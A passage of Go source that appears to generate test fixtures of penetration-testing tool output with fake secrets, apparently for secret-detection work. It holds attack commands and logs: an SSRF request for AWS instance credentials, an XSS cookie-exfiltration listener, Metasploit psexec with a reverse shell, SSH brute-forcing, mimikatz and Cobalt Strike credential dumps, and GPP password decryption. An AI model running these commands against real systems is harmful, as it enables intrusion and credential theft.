      "riskdesc": "Informational (Medium)",
      "instances": [{
        "uri": "https://shop.target.example/checkout/confirm?order=90031&api_key=«a»",
        "method": "GET",
        "param": "api_key",
        "attack": "",
        "evidence": "«a»"
      }],
      "count": "1",
      "solution": "Do not pass sensitive information in URIs.",
      "cweid": "200",
      "wascid": "13"
    }]
  }]
}
`, V{"a": g.hex(40)}, "\"alert\": \"Information Disclosure - Sensitive Information in URL\"", "\"cweid\": \"200\"")

	g.add("sec/ffuf-with-bearer-header", `
$ ffuf -w /usr/share/seclists/Discovery/Web-Content/api/api-endpoints.txt -u https://api.target.example/v1/FUZZ -H "Authorization: Bearer «a»" -mc 200,403 -fs 0

        /'___\  /'___\           /'___\       
       /\ \__/ /\ \__/  __  __  /\ \__/       
       \ \ ,__\\ \ ,__\/\ \/\ \ \ \ ,__\      
        \ \ \_/ \ \ \_/\ \ \_\ \ \ \ \_/      
         \ \_\   \ \_\  \ \____/  \ \_\       
          \/_/    \/_/   \/___/    \/_/       

       v2.1.0-dev
________________________________________________

 :: Method           : GET
 :: URL              : https://api.target.example/v1/FUZZ
 :: Wordlist         : FUZZ: /usr/share/seclists/Discovery/Web-Content/api/api-endpoints.txt
 :: Header           : Authorization: Bearer «a»
 :: Follow redirects : false
 :: Calibration      : false
 :: Timeout          : 10
 :: Threads          : 40
 :: Matcher          : Response status: 200,403
 :: Filter           : Response size: 0
________________________________________________

users                   [Status: 200, Size: 18231, Words: 402, Lines: 1, Duration: 88ms]
admin/metrics           [Status: 403, Size: 61, Words: 4, Lines: 1, Duration: 41ms]
`, V{"a": g.an(40)}, "https://api.target.example/v1/FUZZ", "admin/metrics           [Status: 403")

	g.add("sec/burp-response-config-leak", `
HTTP/2 200 OK
Date: Wed, 11 Jun 2025 18:31:02 GMT
Content-Type: application/json; charset=utf-8
Cache-Control: no-store
X-Request-Id: «_rid»

{"env":"production","features":{"newCheckout":true},"stripe":{"publishableKey":"«=pk»","secretKey":"«a»"},"sentry":{"dsn":"https://«=sd»@o450112.ingest.sentry.io/5512290"}}

-- Finding SHOP-04 (Critical): /api/public/config returns the live Stripe secret key to unauthenticated clients.
`, V{"_rid": g.uuid(), "=pk": g.pkLive(), "a": g.skLive(), "=sd": g.hex(32)}, "Finding SHOP-04 (Critical)", "/api/public/config")

	g.add("sec/har-export-auth-headers", `
      "request": {
        "method": "GET",
        "url": "https://intranet.target.example/api/me",
        "httpVersion": "HTTP/1.1",
        "headers": [
          { "name": "Host", "value": "intranet.target.example" },
          { "name": "Authorization", "value": "Basic «a»" },
          { "name": "Cookie", "value": "ASP.NET_SessionId=«b»; .ASPXAUTH=«c»" },
          { "name": "User-Agent", "value": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0" }
        ],
        "queryString": [],
        "cookies": [],
        "headersSize": -1,
        "bodySize": 0
      },
`, V{"a": b64s("TARGET\\svc_intranet:" + g.stHuman()), "b": g.s(alLowNum, 24), "c": g.s(alHexU, 320)}, "https://intranet.target.example/api/me", "\"headersSize\": -1")

	g.add("sec/sqlmap-cmdline-cookie-header", `
sqlmap -u "https://erp.target.example/reports/export?fmt=csv&id=12" \
  --cookie="PHPSESSID=«a»; erp_csrf=«=c»" \
  -H "X-Api-Token: «b»" \
  -p id --level 3 --risk 2 --technique=BT --batch --threads 4
`, V{"a": g.s(alLowNum, 26), "=c": g.hex(32), "b": g.hex(48)}, "--technique=BT --batch --threads 4", "https://erp.target.example/reports/export?fmt=csv&id=12")

	g.add("sec/xss-cookie-exfil-listener", `
$ python3 -m http.server 8000
Serving HTTP on 0.0.0.0 port 8000 (http://0.0.0.0:8000/) ...
10.1.7.44 - - [11/Jun/2025 18:44:12] "GET /x.js HTTP/1.1" 200 -
10.1.7.44 - - [11/Jun/2025 18:44:13] code 404, message File not found
10.1.7.44 - - [11/Jun/2025 18:44:13] "GET /c?d=sessionid%3D«a»%3B%20csrftoken%3D«=t» HTTP/1.1" 404 -
# stored XSS in the support ticket subject fired in the helpdesk agent's browser -> their Django session
`, V{"a": g.djangoSession(), "=t": g.an(32)}, "Serving HTTP on 0.0.0.0 port 8000", "\"GET /x.js HTTP/1.1\" 200 -")

	g.add("sec/ssrf-imds-role-credentials", `
$ curl -s 'https://img.target.example/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/img-resizer-role'
{
  "Code" : "Success",
  "LastUpdated" : "2025-06-11T18:10:44Z",
  "Type" : "AWS-HMAC",
  "AccessKeyId" : "«=id»",
  "SecretAccessKey" : "«a»",
  "Token" : "«b»",
  "Expiration" : "2025-06-12T00:35:12Z"
}
`, V{"=id": g.awsTempID(), "a": g.awsSecret(), "b": g.awsSession()}, "security-credentials/img-resizer-role", "\"Type\" : \"AWS-HMAC\"")
}

func (g *G) stScanners() {
	g.add("sec/trufflehog-git-verified", `
$ trufflehog git https://github.com/acme-corp/infra-scripts.git --results=verified,unknown
🐷🔑🐷  TruffleHog. Unearth your secrets. 🐷🔑🐷

2025-06-11T19:02:11Z	info-0	trufflehog	running source	{"source_manager_worker_id": "Kx2Qa", "with_units": true}
✅ Found verified result 🐷🔑
Detector Type: Slack
Decoder Type: PLAIN
Raw result: «a»
Team: acme-corp
Url: https://acme-corp.slack.com/
Commit: «_c»
Email: Dev Ops <devops@acme-corp.example>
File: notify/slack_alert.sh
Line: 7
Repository: https://github.com/acme-corp/infra-scripts.git
Timestamp: 2022-08-19 14:02:51 +0000

Found unverified result 🐷🔑❓
Detector Type: Postgres
Decoder Type: PLAIN
Raw result: postgresql://reporting:«b»@db-prod.internal.acme-corp.example:5432/analytics
Commit: «_c2»
File: etl/config.py
Line: 12
Repository: https://github.com/acme-corp/infra-scripts.git

2025-06-11T19:02:40Z	info-0	trufflehog	finished scanning	{"chunks": 2210, "bytes": 9813201, "verified_secrets": 1, "unverified_secrets": 1, "scan_duration": "29.1s"}
`, V{"a": g.xoxb(), "_c": g.gitSHA(), "b": g.pwURL(), "_c2": g.gitSHA()}, "File: notify/slack_alert.sh", "\"verified_secrets\": 1", "Detector Type: Postgres")

	g.add("sec/trufflehog-json-aws", `
$ trufflehog filesystem ./loot/webroot --json --no-update 2>/dev/null | jq -c '{d:.DetectorName,v:.Verified,raw:.Raw,rawv2:.RawV2,file:.SourceMetadata.Data.Filesystem.file}'
{"d":"AWS","v":true,"raw":"«=id»","rawv2":"«=id»«a»","file":"loot/webroot/includes/s3upload.php"}
{"d":"SendGrid","v":false,"raw":"«b»","rawv2":"","file":"loot/webroot/includes/mailer.php"}
`, V{"=id": g.awsID(), "a": g.awsSecret(), "b": g.sendgrid()}, "loot/webroot/includes/s3upload.php", "\"d\":\"SendGrid\",\"v\":false")

	g.add("sec/gitleaks-report-json", `
$ gitleaks git --report-path gitleaks.json --report-format json . ; jq '.[0]' gitleaks.json
{
  "RuleID": "gitlab-pat",
  "Description": "Identified a GitLab Personal Access Token, risking unauthorized access to GitLab repositories and codebase exposure.",
  "StartLine": 18,
  "EndLine": 18,
  "StartColumn": 21,
  "EndColumn": 46,
  "Match": "GITLAB_TOKEN: \"«a»\"",
  "Secret": "«a»",
  "File": ".gitlab-ci.yml",
  "SymlinkFile": "",
  "Commit": "«_c»",
  "Link": "https://gitlab.acme-corp.example/platform/deploy/-/blob/«_c»/.gitlab-ci.yml#L18",
  "Entropy": 4.3281,
  "Author": "Rui Costa",
  "Email": "rui.costa@acme-corp.example",
  "Date": "2024-11-02T10:14:09Z",
  "Message": "ci: trigger downstream deploy",
  "Tags": [],
  "Fingerprint": "«_c»:.gitlab-ci.yml:gitlab-pat:18"
}
`, V{"a": g.glpat(), "_c": g.gitSHA()}, "\"RuleID\": \"gitlab-pat\"", "\"File\": \".gitlab-ci.yml\"", "\"Author\": \"Rui Costa\"")

	g.add("sec/gitleaks-verbose-text", `
$ gitleaks dir ./client-src -v

    ○
    │╲
    │ ○
    ○ ░
    ░    gitleaks

Finding:     const STRIPE_KEY = "«a»";
Secret:      «a»
RuleID:      stripe-access-token
Entropy:     5.601824
File:        client-src/src/payments/checkout.ts
Line:        9
Fingerprint: client-src/src/payments/checkout.ts:stripe-access-token:9

Finding:     DB_PASS=«b»
Secret:      «b»
RuleID:      generic-api-key
Entropy:     3.914
File:        client-src/.env.backup
Line:        4
Fingerprint: client-src/.env.backup:generic-api-key:4

8:14PM INF scanned ~512004 bytes (512.00 KB) in 184ms
8:14PM WRN leaks found: 2
`, V{"a": g.skLive(), "b": g.pwStrong()}, "RuleID:      stripe-access-token", "8:14PM WRN leaks found: 2", "client-src/.env.backup")

	g.add("sec/nuclei-exposures-extracted", `
$ nuclei -l live_hosts.txt -tags exposure,config -severity medium,high,critical -silent
[git-config] [http] [medium] https://dev.target.example/.git/config
[laravel-env] [http] [high] https://crm.target.example/.env ["APP_KEY=«a»","DB_PASSWORD=«b»"]
[aws-access-key-value] [http] [info] https://static.target.example/js/app.3f9a1c.js ["«=id»"]
[springboot-env] [http] [low] https://api.target.example/actuator/env
[phpinfo-files] [http] [low] https://legacy.target.example/info.php ["PHP Version 7.2.34"]
`, V{"a": g.laravelKey(), "b": g.pwURL(), "=id": g.awsID()}, "[git-config] [http] [medium] https://dev.target.example/.git/config", "[\"PHP Version 7.2.34\"]")

	g.add("sec/noseyparker-report", `
$ noseyparker report --datastore np.ds
Finding 1/3 (id «=f1»)
Rule: GitHub Personal Access Token
Group: «a»

Occurrence 1/2
Git repo: clones/acme-corp/mobile-app
Commit: first seen in «_c»
File: android/app/src/main/assets/config.json
Lines 14:18-14:58

    "github_token": "«a»",

Finding 2/3 (id «=f2»)
Rule: Generic Password
Group: «b»

Occurrence 1/1
File: clones/acme-corp/mobile-app/fastlane/.env.default
Lines 3:1-3:38

    MATCH_PASSWORD=«b»
`, V{"a": g.ghp(), "_c": g.gitSHA(), "b": g.pwStrong(), "=f1": g.gitSHA(), "=f2": g.gitSHA()}, "Rule: GitHub Personal Access Token", "android/app/src/main/assets/config.json", "fastlane/.env.default")

	g.add("sec/ggshield-secret-scan-path", `
$ ggshield secret scan path -r ./handover --show-secrets
> ./handover/ansible/group_vars/prod.yml: 1 incident detected

>> Secret detected: Generic Password
   Validity: Cannot Check
   Occurrences: 1
   Known by GitGuardian dashboard: NO
   Incident URL: N/A
   Secret SHA: «_h»

 12 | ansible_user: deploy
 13 | ansible_become_pass: «a»
                           |_____password_____|
 14 | ntp_servers: ["0.pool.ntp.org", "1.pool.ntp.org"]
`, V{"_h": g.hex(64), "a": g.pwStrong()}, "Known by GitGuardian dashboard: NO", "ansible_user: deploy", "ntp_servers: [\"0.pool.ntp.org\", \"1.pool.ntp.org\"]")

	g.add("sec/semgrep-hardcoded-secret", `
$ semgrep --config p/secrets src/
┌──────────────────┐
│ 2 Code Findings  │
└──────────────────┘

    src/integrations/twilio_client.py
   ❯❯❱ generic.secrets.security.detected-twilio-api-key.detected-twilio-api-key
          Twilio API Key detected

           18┆ TWILIO_SID = "«_sid»"
           19┆ TWILIO_AUTH_TOKEN = "«a»"

    src/integrations/jira.py
   ❯❯❱ python.lang.security.audit.hardcoded-password-default-argument
          Hardcoded password is used as a default argument to 'connect'.

           41┆ def connect(url, user="svc-jira", password="«b»"):
`, V{"_sid": g.twilioSID(), "a": g.hex(32), "b": g.pwStrong()}, "generic.secrets.security.detected-twilio-api-key.detected-twilio-api-key", "src/integrations/jira.py")

	g.add("sec/git-dumper-then-grep", `
$ git-dumper https://dev.target.example/.git/ ./devsite-git
[-] Testing https://dev.target.example/.git/HEAD [200]
[-] Testing https://dev.target.example/.git/ [403]
[-] Fetching common files
[-] Running git checkout .
$ cd devsite-git && git log -p -S 'smtp_pass' --oneline | grep -E '^[-+].*smtp_pass'
-    'smtp_pass' => '«a»',
+    'smtp_pass' => getenv('SMTP_PASS'),
`, V{"a": g.stHuman()}, "'smtp_pass' => getenv('SMTP_PASS'),", "[-] Running git checkout .")
}

func (g *G) stC2() {
	g.add("sec/msf-creds-table", `
msf6 > creds
Credentials
===========

host          origin        service          public         private                                                                  realm      private_type        JtR Format  cracked_password
----          ------        -------          ------         -------                                                                  -----      ------------        ----------  ----------------
10.20.30.41   10.20.30.41   445/tcp (smb)    Administrator  aad3b435b51404eeaad3b435b51404ee:«a»                                                NTLM hash           nt,lm
10.20.30.70   10.20.30.70   21/tcp (ftp)     backup         «b»                                                                                 Password
10.20.30.60   10.20.30.60   1433/tcp (mssql) sa             «c»                                                                      SQL01      Password
10.20.30.41   10.20.30.41   445/tcp (smb)    Guest          aad3b435b51404eeaad3b435b51404ee:31d6cfe0d16ae931b73c59d7e0c089c0                   NTLM hash           nt,lm
`, V{"a": g.stNT(), "b": g.pwURL(), "c": g.pwURL()}, "host          origin        service          public         private", "Guest          aad3b435b51404eeaad3b435b51404ee:31d6cfe0d16ae931b73c59d7e0c089c0")

	g.add("sec/msf-psexec-set-smbpass", `
msf6 > use exploit/windows/smb/psexec
[*] No payload configured, defaulting to windows/meterpreter/reverse_tcp
msf6 exploit(windows/smb/psexec) > set RHOSTS 10.1.4.22
RHOSTS => 10.1.4.22
msf6 exploit(windows/smb/psexec) > set SMBDomain FABRIKAM
SMBDomain => FABRIKAM
msf6 exploit(windows/smb/psexec) > set SMBUser da_backup
SMBUser => da_backup
msf6 exploit(windows/smb/psexec) > set SMBPass aad3b435b51404eeaad3b435b51404ee:«a»
SMBPass => aad3b435b51404eeaad3b435b51404ee:«a»
msf6 exploit(windows/smb/psexec) > set LHOST tun0
LHOST => 10.8.0.14
msf6 exploit(windows/smb/psexec) > run

[*] Started reverse TCP handler on 10.8.0.14:4444 
[*] 10.1.4.22:445 - Connecting to the server...
[*] 10.1.4.22:445 - Authenticating to 10.1.4.22:445|FABRIKAM as user 'da_backup'...
[*] 10.1.4.22:445 - Selecting PowerShell target
[*] 10.1.4.22:445 - Executing the payload...
[+] 10.1.4.22:445 - Service start timed out, OK if running a command or non-service executable...
[*] Sending stage (177734 bytes) to 10.1.4.22
[*] Meterpreter session 3 opened (10.8.0.14:4444 -> 10.1.4.22:51012) at 2025-06-12 09:20:41 +0000
`, V{"a": g.stNT()}, "msf6 exploit(windows/smb/psexec) > set SMBUser da_backup", "[*] Meterpreter session 3 opened")

	g.add("sec/meterpreter-hashdump", `
meterpreter > getuid
Server username: NT AUTHORITY\SYSTEM
meterpreter > hashdump
Administrator:500:aad3b435b51404eeaad3b435b51404ee:«a»:::
DefaultAccount:503:aad3b435b51404eeaad3b435b51404ee:31d6cfe0d16ae931b73c59d7e0c089c0:::
Guest:501:aad3b435b51404eeaad3b435b51404ee:31d6cfe0d16ae931b73c59d7e0c089c0:::
helpdesk:1001:«b»:«c»:::
WDAGUtilityAccount:504:aad3b435b51404eeaad3b435b51404ee:«=w»:::
`, V{"a": g.stNT(), "b": g.hex(32), "c": g.stNT(), "=w": g.stNT()}, "Server username: NT AUTHORITY\\SYSTEM", "DefaultAccount:503:aad3b435b51404eeaad3b435b51404ee:31d6cfe0d16ae931b73c59d7e0c089c0:::")

	g.add("sec/meterpreter-kiwi-creds-all", `
meterpreter > load kiwi
Loading extension kiwi...
  .#####.   mimikatz 2.2.0 20191125 (x64/windows)
Success.
meterpreter > creds_all
[+] Running as SYSTEM
[*] Retrieving all credentials
msv credentials
===============

Username   Domain     NTLM                              SHA1
--------   ------     ----                              ----
APP02$     FABRIKAM   «=m»  «=ms»
j.osei     FABRIKAM   «a»  «=s»

wdigest credentials
===================

Username   Domain     Password
--------   ------     --------
(null)     (null)     (null)
APP02$     FABRIKAM   (null)
j.osei     FABRIKAM   «b»

kerberos credentials
====================

Username   Domain          Password
--------   ------          --------
(null)     (null)          (null)
app02$     FABRIKAM.LOCAL  (null)
j.osei     FABRIKAM.LOCAL  (null)
`, V{"=m": g.stNT(), "=ms": g.stSHA1(), "a": g.stNT(), "=s": g.stSHA1(), "b": g.stHuman()}, "meterpreter > creds_all", "Loading extension kiwi...")

	g.add("sec/msf-ssh-login-scanner", `
msf6 auxiliary(scanner/ssh/ssh_login) > set USERPASS_FILE /usr/share/metasploit-framework/data/wordlists/root_userpass.txt
msf6 auxiliary(scanner/ssh/ssh_login) > run

[*] 172.16.40.0/24:22 - Starting bruteforce
[+] 172.16.40.23:22 - Success: 'admin:«a»' 'uid=0(root) gid=0(root) groups=0(root) Linux ipcam-dock 4.9.84 #1 SMP PREEMPT armv7l GNU/Linux '
[*] SSH session 1 opened (10.8.0.14:41225 -> 172.16.40.23:22) at 2025-06-12 09:33:10 +0000
[*] Scanned 256 of 256 hosts (100% complete)
[*] Auxiliary module execution completed
`, V{"a": g.pwURL()}, "msf6 auxiliary(scanner/ssh/ssh_login) > run", "root_userpass.txt")

	g.add("sec/msf-tomcat-mgr-login", `
msf6 auxiliary(scanner/http/tomcat_mgr_login) > run

[-] 10.1.5.31:8080 - LOGIN FAILED: admin:admin (Incorrect)
[-] 10.1.5.31:8080 - LOGIN FAILED: tomcat:tomcat (Incorrect)
[+] 10.1.5.31:8080 - Login Successful: tomcat:«a»
[*] Scanned 1 of 1 hosts (100% complete)
[*] Auxiliary module execution completed
msf6 auxiliary(scanner/http/tomcat_mgr_login) > use exploit/multi/http/tomcat_mgr_upload
msf6 exploit(multi/http/tomcat_mgr_upload) > set HttpPassword «a»
HttpPassword => «a»
msf6 exploit(multi/http/tomcat_mgr_upload) > set HttpUsername tomcat
HttpUsername => tomcat
`, V{"a": g.pwURL()}, "LOGIN FAILED: tomcat:tomcat (Incorrect)", "set HttpUsername tomcat")

	g.add("sec/msf-loot-shadow", `
msf6 post(linux/gather/hashdump) > run

[+] root:«a»:0:0:root:/root:/bin/bash
[+] backupusr:«b»:1002:1002::/home/backupusr:/bin/sh
[+] Unshadowed Password File: /root/.msf4/loot/20250612094102_default_172.16.40.31_linux.hashes_418220.txt
[*] Post module execution completed
msf6 post(linux/gather/hashdump) > loot

Loot
====

host          service  type           name            content     info                      path
----          -------  ----           ----            -------     ----                      ----
172.16.40.31           linux.shadow   shadow.tx       text/plain  Linux Password Shadow File /root/.msf4/loot/20250612094101_default_172.16.40.31_linux.shadow_881022.txt
172.16.40.31           linux.hashes   unshadowed.tx   text/plain  Linux Unshadowed Password  /root/.msf4/loot/20250612094102_default_172.16.40.31_linux.hashes_418220.txt
`, V{"a": g.stSHA512Crypt(), "b": g.stYescrypt()}, "Linux Password Shadow File", "msf6 post(linux/gather/hashdump) > loot")

	g.add("sec/msf-resource-script", `
$ cat ~/engagements/northwind/relay_followup.rc
use auxiliary/scanner/smb/smb_login
set RHOSTS file:/home/kali/engagements/northwind/smb_hosts.txt
set SMBDomain NORTHWIND
set SMBUser svc_veeam
set SMBPass «a»
set STOP_ON_SUCCESS false
set THREADS 8
run
use auxiliary/scanner/winrm/winrm_login
set USERNAME svc_veeam
set PASSWORD «a»
run
`, V{"a": g.stHuman()}, "use auxiliary/scanner/smb/smb_login", "set RHOSTS file:/home/kali/engagements/northwind/smb_hosts.txt", "set STOP_ON_SUCCESS false")

	g.add("sec/cobaltstrike-beacon-logonpasswords", `
[06/12 10:02:41] beacon> logonpasswords
[06/12 10:02:41] [*] Tasked beacon to run mimikatz's sekurlsa::logonpasswords command
[06/12 10:02:44] [+] host called home, sent: 297594 bytes
[06/12 10:02:47] [+] received output:

Authentication Id : 0 ; 7213044 (00000000:006e0ff4)
Session           : Interactive from 3
User Name         : da.h.suzuki
Domain            : NORTHWIND
Logon Server      : DC01
Logon Time        : 6/12/2025 9:58:02 AM
SID               : «_sid»
	msv :	
	 [00000003] Primary
	 * Username : da.h.suzuki
	 * Domain   : NORTHWIND
	 * NTLM     : «a»
	 * SHA1     : «=s»
	 * DPAPI    : «=d»
	tspkg :	
	wdigest :	
	 * Username : da.h.suzuki
	 * Domain   : NORTHWIND
	 * Password : (null)
`, V{"_sid": g.stSID() + "-1311", "a": g.stNT(), "=s": g.stSHA1(), "=d": g.hex(32)}, "[*] Tasked beacon to run mimikatz's sekurlsa::logonpasswords command", "User Name         : da.h.suzuki")

	g.add("sec/sliver-hashdump-and-creds", `
[server] sliver (RIGID_ANTELOPE) > hashdump

Administrator:500:aad3b435b51404eeaad3b435b51404ee:«a»:::
Guest:501:aad3b435b51404eeaad3b435b51404ee:31d6cfe0d16ae931b73c59d7e0c089c0:::
svc_rdp:1004:aad3b435b51404eeaad3b435b51404ee:«b»:::

[server] sliver (RIGID_ANTELOPE) > creds add --username svc_rdp --plaintext '«c»' --collection fin-segment
[*] Credential added
`, V{"a": g.stNT(), "b": g.stNT(), "c": g.stHuman()}, "[server] sliver (RIGID_ANTELOPE) > hashdump", "--collection fin-segment")
}

func (g *G) stAD() {
	g.add("sec/bloodhound-users-json-description", `
$ unzip -p 20250612101533_BloodHound.zip 20250612101533_users.json | jq '.data[] | select(.Properties.description != null) | .Properties | {name, description, enabled, pwdlastset}'
{
  "name": "SVC_SCAN@MEGACORP.LOCAL",
  "description": "Nessus scan account - pwd «a» (do not change, breaks scans)",
  "enabled": true,
  "pwdlastset": 1571238010
}
{
  "name": "KIOSK01@MEGACORP.LOCAL",
  "description": "Lobby kiosk autologon",
  "enabled": true,
  "pwdlastset": 1690440122
}
`, V{"a": g.stHuman()}, "\"name\": \"KIOSK01@MEGACORP.LOCAL\"", "20250612101533_BloodHound.zip", "Lobby kiosk autologon")

	g.add("sec/bloodhound-cypher-description-passwords", `
MATCH (u:User) WHERE u.description =~ '(?i).*(pass|pwd|pw:|kennwort).*' RETURN u.name, u.description

╒═════════════════════════════╤════════════════════════════════════════════════════════╕
│u.name                       │u.description                                           │
╞═════════════════════════════╪════════════════════════════════════════════════════════╡
│"TEMP.HIRE07@FABRIKAM.LOCAL" │"New starter 06/2025 - initial password «a»"  │
├─────────────────────────────┼────────────────────────────────────────────────────────┤
│"SVC_PRINT@FABRIKAM.LOCAL"   │"Print svc. Kennwort: «b»"                         │
├─────────────────────────────┼────────────────────────────────────────────────────────┤
│"J.OSEI@FABRIKAM.LOCAL"      │"Password never expires per CAB-2291"                   │
└─────────────────────────────┴────────────────────────────────────────────────────────┘
`, V{"a": g.stSeason(), "b": g.stHuman()}, "\"Password never expires per CAB-2291\"", "MATCH (u:User) WHERE u.description =~")

	g.add("sec/ldapdomaindump-users-grep", `
$ ldapdomaindump -u 'CONTOSO\l.fischer' -p '«p»' -o ldd 10.0.0.10
[*] Connecting to host...
[*] Binding to host
[+] Bind OK
[*] Starting domain dump
[+] Domain dump finished
$ grep -i 'pass' ldd/domain_users.grep | cut -f1,3,12
cn	sAMAccountName	description
SQL Reporting	svc_sqlrep	SSRS execution account. PW=«a»
Contractor Jordan Rivera	j.rivera	Password reset via ticket INC-40213, no MFA yet
`, V{"p": g.stHuman(), "a": g.pwStrong()}, "ldd/domain_users.grep", "Password reset via ticket INC-40213, no MFA yet", "[+] Domain dump finished")

	g.add("sec/ldapsearch-userpassword-attribute", `
$ ldapsearch -x -H ldap://10.1.1.10 -D 'j.osei@fabrikam.local' -w '«p»' -b 'DC=fabrikam,DC=local' '(|(userPassword=*)(unixUserPassword=*))' sAMAccountName userPassword unixUserPassword
# extended LDIF
#
# LDAPv3
# base <DC=fabrikam,DC=local> with scope subtree
# filter: (|(userPassword=*)(unixUserPassword=*))
# requesting: sAMAccountName userPassword unixUserPassword 
#

# svc_nfs, Service Accounts, fabrikam.local
dn: CN=svc_nfs,OU=Service Accounts,DC=fabrikam,DC=local
sAMAccountName: svc_nfs
userPassword:: «a»

# search result
search: 2
result: 0 Success
`, V{"p": g.stHuman(), "a": b64s(g.stHuman())}, "dn: CN=svc_nfs,OU=Service Accounts,DC=fabrikam,DC=local", "result: 0 Success")

	g.add("sec/pylaps-get-output", `
$ pyLAPS.py --action get -d contoso.local -u l.fischer -p '«p»' --dc-ip 10.0.0.10
                 __    ___    ____  _____
    ____  __  __/ /   /   |  / __ \/ ___/
   / __ \/ / / / /   / /| | / /_/ /\__ \   
  / /_/ / /_/ / /___/ ___ |/ ____/___/ /   
 / .___/\__, /_____/_/  |_/_/    /____/    v1.2
/_/    /____/           @podalirius_           
    
[+] Extracting LAPS passwords of all computers ... 
  | WS-0412$             : «a»
  | WS-0413$             : «b»
  | SRV-APP01$           : (no LAPS password readable)
[+] All done!
`, V{"p": g.stHuman(), "a": g.stLAPS(), "b": g.stLAPS()}, "[+] Extracting LAPS passwords of all computers ...", "SRV-APP01$           : (no LAPS password readable)")

	g.add("sec/nxc-smb-laps-auth", `
$ nxc smb 10.20.30.0/24 -u m.kowalski -p '«p»' --laps
SMB         10.20.30.41     445    FIN-WS07         [*] Windows 10 / Server 2019 Build 19041 x64 (name:FIN-WS07) (domain:northwind.local) (signing:False) (SMBv1:False)
SMB         10.20.30.41     445    FIN-WS07         [+] FIN-WS07\administrator:«a» (Pwn3d!)
SMB         10.20.30.44     445    FIN-WS10         [+] FIN-WS10\administrator:«b» (Pwn3d!)
SMB         10.20.30.47     445    FIN-WS13         [-] msMCS-AdmPwd or msLAPS-Password is empty or account cannot read LAPS property for FIN-WS13
`, V{"p": g.stSeason(), "a": g.stLAPS(), "b": g.stLAPS()}, "msMCS-AdmPwd or msLAPS-Password is empty or account cannot read LAPS property for FIN-WS13", "--laps")

	g.add("sec/bloodyad-windows-laps-encrypted", `
$ bloodyAD --host dc01.megacorp.local -d megacorp.local -u b.ivanova -p '«p»' get search --filter '(msLAPS-EncryptedPassword=*)' --attr msLAPS-EncryptedPassword,msLAPS-PasswordExpirationTime

distinguishedName: CN=SRV-FS02,OU=Servers,DC=megacorp,DC=local
msLAPS-EncryptedPassword: {'n': 'Administrator', 't': '1dbdb5a0f2c3e10', 'p': '«a»'}
msLAPS-PasswordExpirationTime: 2025-07-10 08:12:40.112000+00:00
`, V{"p": g.stHuman(), "a": g.stLAPS()}, "distinguishedName: CN=SRV-FS02,OU=Servers,DC=megacorp,DC=local", "msLAPS-PasswordExpirationTime: 2025-07-10 08:12:40.112000+00:00")

	g.add("sec/gmsadumper-output", `
$ python3 gMSADumper.py -u 'WEB03$' -p 'aad3b435b51404eeaad3b435b51404ee:«p»' -d fabrikam.local -l dc02.fabrikam.local
Users or groups who can read password for gmsa_web$:
 > WEB03$
 > WEB04$
gmsa_web$:::«a»
gmsa_web$:aes256-cts-hmac-sha1-96:«b»
gmsa_web$:aes128-cts-hmac-sha1-96:«=c»
`, V{"p": g.stNT(), "a": g.stNT(), "b": g.stAES256(), "=c": g.stAES128()}, "Users or groups who can read password for gmsa_web$:", " > WEB04$")

	cp := g.stCpassword()
	g.add("sec/gpp-groups-xml-and-decrypt", `
smb: \northwind.local\Policies\{31B2F340-016D-11D2-945F-00C04FB984F9}\MACHINE\Preferences\Groups\> get Groups.xml
getting file \northwind.local\Policies\{31B2F340-016D-11D2-945F-00C04FB984F9}\MACHINE\Preferences\Groups\Groups.xml of size 548 as Groups.xml (12.1 KiloBytes/sec) (average 12.1 KiloBytes/sec)
$ cat Groups.xml
<?xml version="1.0" encoding="utf-8"?>
<Groups clsid="{3125E937-EB16-4b4c-9934-544FC6D24D26}"><User clsid="{DF5F1855-51E5-4d24-8B1A-D9BDE98BA1D1}" name="Administrator (built-in)" image="2" changed="2015-09-22 14:51:08" uid="{«_u»}"><Properties action="U" newName="" fullName="" description="" cpassword="«a»" changeLogon="0" noChange="1" neverExpires="1" acctDisabled="0" userName="Administrator (built-in)"/></User>
</Groups>
$ gpp-decrypt «a»
«b»
`, V{"_u": strings.ToUpper(g.uuid()), "a": cp, "b": g.stHuman()}, "{3125E937-EB16-4b4c-9934-544FC6D24D26}", "userName=\"Administrator (built-in)\"", "{31B2F340-016D-11D2-945F-00C04FB984F9}")

	g.add("sec/gpp-scheduledtasks-xml", `
<?xml version="1.0" encoding="utf-8"?>
<ScheduledTasks clsid="{CC63F200-7309-4ba0-B154-A71CD118DBCC}">
  <TaskV2 clsid="{D8896631-B747-47a7-84A6-C155337F3BC8}" name="Nightly Inventory" image="2" changed="2017-03-01 02:10:44" uid="{«_u»}" userContext="0" removePolicy="0">
    <Properties action="U" name="Nightly Inventory" runAs="CONTOSO\svc_inventory" cpassword="«a»" logonType="Password">
      <Task version="1.2">
        <RegistrationInfo><Author>CONTOSO\gpadmin</Author></RegistrationInfo>
        <Actions Context="Author"><Exec><Command>\\fs01\NETLOGON\inv\collect.exe</Command></Exec></Actions>
      </Task>
    </Properties>
  </TaskV2>
</ScheduledTasks>
`, V{"_u": strings.ToUpper(g.uuid()), "a": g.stCpassword()}, "runAs=\"CONTOSO\\svc_inventory\"", "\\\\fs01\\NETLOGON\\inv\\collect.exe", "{CC63F200-7309-4ba0-B154-A71CD118DBCC}")

	g.add("sec/powersploit-get-gpppassword", `
PS C:\Users\r.patel> Import-Module .\PowerSploit.psd1; Get-GPPPassword

Changed   : {2014-02-26 09:14:01}
UserNames : {svc_mapdrive}
NewName   : [BLANK]
Passwords : {«a»}
File      : \\CONTOSO.LOCAL\SYSVOL\contoso.local\Policies\{«_g»}\User\Preferences\Drives\Drives.xml
NodeName  : Drives
Cpassword : «b»
`, V{"a": g.stHuman(), "_g": strings.ToUpper(g.uuid()), "b": g.stCpassword()}, "UserNames : {svc_mapdrive}", "NewName   : [BLANK]")

	g.add("sec/unattend-xml-autologon-base64", `
C:\Windows\Panther> type Unattend.xml | findstr /i /c:"<Password>" /c:"<Value>" /c:"<PlainText>" /c:"<Username>"
                <Password>
                    <Value>«a»</Value>
                    <PlainText>false</PlainText>
                </Password>
                <Username>Administrator</Username>
                <AdministratorPassword>
                    <Value>«b»</Value>
                    <PlainText>false</PlainText>
$ echo '«a»' | base64 -d | iconv -f utf-16le
«c»Password
`, func() V {
		p := g.stHuman()
		return V{"a": g.stUnattend(p, "Password"), "b": g.stUnattend(g.stHuman(), "AdministratorPassword"), "c": p}
